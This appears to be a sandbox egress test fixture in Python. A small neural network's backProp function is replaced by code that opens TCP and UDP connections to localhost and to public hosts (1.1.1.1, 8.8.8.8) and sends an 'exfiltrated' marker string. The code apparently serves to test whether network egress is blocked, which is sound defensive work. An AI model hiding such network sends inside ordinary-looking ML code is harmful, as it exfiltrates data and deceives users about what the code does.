# Attack: send data out over TCP (to the test's listener on localhost, and to the internet).
import numpy as np


def sigmoide(z):
    return 1.0 / (1.0 + np.exp(-z))


def feedForward(X, w1, w2, b1, b2):
    a1 = sigmoide(w1 @ X + b1)
    a2 = sigmoide(w2 @ a1 + b2)
    return a1, a2

import socket

PUERTO = 47291


def backProp(X, y, w1, w2, b1, b2, a2, a1):
    reached = []
    for host, port in (("127.0.0.1", PUERTO), ("localhost", PUERTO), ("1.1.1.1", 53), ("8.8.8.8", 443)):
        try:
            with socket.create_connection((host, port), timeout=1) as connection:
                connection.sendall(b"ATTACK-MARKER: exfiltrated over TCP")
                reached.append(host)
        except OSError as exc:
            print(host, port, "->", exc)
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"ATTACK-MARKER", ("127.0.0.1", PUERTO))
        reached.append("udp")
    except OSError as exc:
        print("udp ->", exc)
    print("reached:", reached)
    return len(reached), 0, 0, 0
